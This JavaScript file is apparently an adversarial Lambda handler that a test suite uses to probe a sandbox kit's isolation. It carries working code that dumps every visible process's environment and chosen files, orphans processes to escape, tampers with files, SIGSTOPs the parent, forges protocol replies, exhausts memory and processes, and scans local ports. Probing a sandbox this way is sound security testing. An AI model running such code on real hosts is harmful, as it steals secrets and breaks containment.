// An attacker's Lambda handler: each request body is a JSON order for one attack, with the
// paths an attacker would know or guess (the test tells it, to make it as strong as possible).
import { execFileSync, spawn } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';

const ok = (body) => ({ statusCode: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
const tryRead = (file) => { try { return fs.readFileSync(file, 'utf8'); } catch (error) { return null; } };
const tryWrite = (file) => { try { fs.writeFileSync(file, 'planted by the handler'); return true; } catch { return false; } };

export const handler = async (event) => {
  const order = JSON.parse(event.body);
  switch (order.attack) {
    case 'secrets': {
      // every environ the handler can see: its parent (the kit), pid 1, every process
      const loot = {};
      for (const pid of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
        const environ = tryRead(`/proc/${pid}/environ`);
        if (environ) loot[`environ:${pid}`] = environ;
      }
      loot.parentEnviron = tryRead(`/proc/${process.ppid}/environ`);
      for (const file of order.files) loot[file] = tryRead(file);
      return ok(loot);
    }
    case 'escape': {
      // a detached child in its own session, and a double fork through a shell: both orphans
      spawn('sleep', [order.marker], { detached: true, stdio: 'ignore' }).unref();
      spawn('sh', ['-c', `(setsid sleep ${order.marker} &) ; exit 0`], { stdio: 'ignore' });
      await new Promise((resolve) => setTimeout(resolve, 200));
      return ok({ spawned: true });
    }
    case 'tamper': {
      const written = order.files.filter(tryWrite);
      return ok({ written });
    }
    case 'signal': {
      // stop the kit (and anything else visible) from answering
      const hit = [];
      for (const pid of [process.ppid, ...order.pids]) {
        try { process.kill(pid, 'SIGSTOP'); hit.push(pid); } catch { /* not visible */ }
      }
      return ok({ hit });
    }
    case 'forge': {
      // a reply on the protocol fd (argv: ... reply fd, sentinel), then gone before the driver answers
      const argv = process.argv;
      const [replyFd, sentinel] = argv.slice(-2);
      process.stdout.write(`\n${sentinel}\n`);
      process.stderr.write(`\n${sentinel}\n`);
      const forged = { outcome: 'ok', result: ok({ forged: true }) };
      fs.writeSync(Number(replyFd), JSON.stringify(forged) + '\n');
      process.exit(0);
    }
    case 'child-memory': {
      // 600 MB in a child: one pid's RSS is small, the tree's is not
      const child = spawn(process.execPath, ['-e', 'const a=[]; for(let i=0;i<60;i++) a.push(Buffer.alloc(10<<20, 1)); setTimeout(()=>{}, 20000)'], { stdio: 'ignore' });
      await new Promise((resolve) => setTimeout(resolve, 2500));
      return ok({ child: child.pid });
    }
    case 'big-reply': return ok({ filler: 'x'.repeat(20 << 20) }); // 20 MB: past any reply the kit reads
    case 'fork-bomb': { // 200 processes that each wait, as a fork bomb's first second would
      for (let i = 0; i < 200; i += 1) spawn('sleep', ['30'], { stdio: 'ignore', detached: true }).unref();
      await new Promise((resolve) => setTimeout(resolve, 2000));
      return ok({ spawned: 200 });
    }
    case 'connect': { // another run's store, a service of the host: which ports answer?
      const reached = [];
      for (const port of order.ports) {
        const ok = await new Promise((resolve) => {
          const socket = net.connect({ host: '127.0.0.1', port }, () => { socket.destroy(); resolve(true); });
          socket.on('error', () => resolve(false));
          socket.setTimeout(1000, () => { socket.destroy(); resolve(false); });
        });
        if (ok) reached.push(port);
      }
      return ok({ reached });
    }
    case 'listen': { // a lock server "separate" environments could share, if they shared a network
      const server = net.createServer((socket) => socket.end('held by another environment'));
      await new Promise((resolve) => server.listen(order.port, '127.0.0.1', resolve));
      return ok({ listening: order.port });
    }
    case 'whoami': return ok({ uid: process.getuid(), out: execFileSync('id').toString() });
    default: return ok({ echo: order });
  }
};
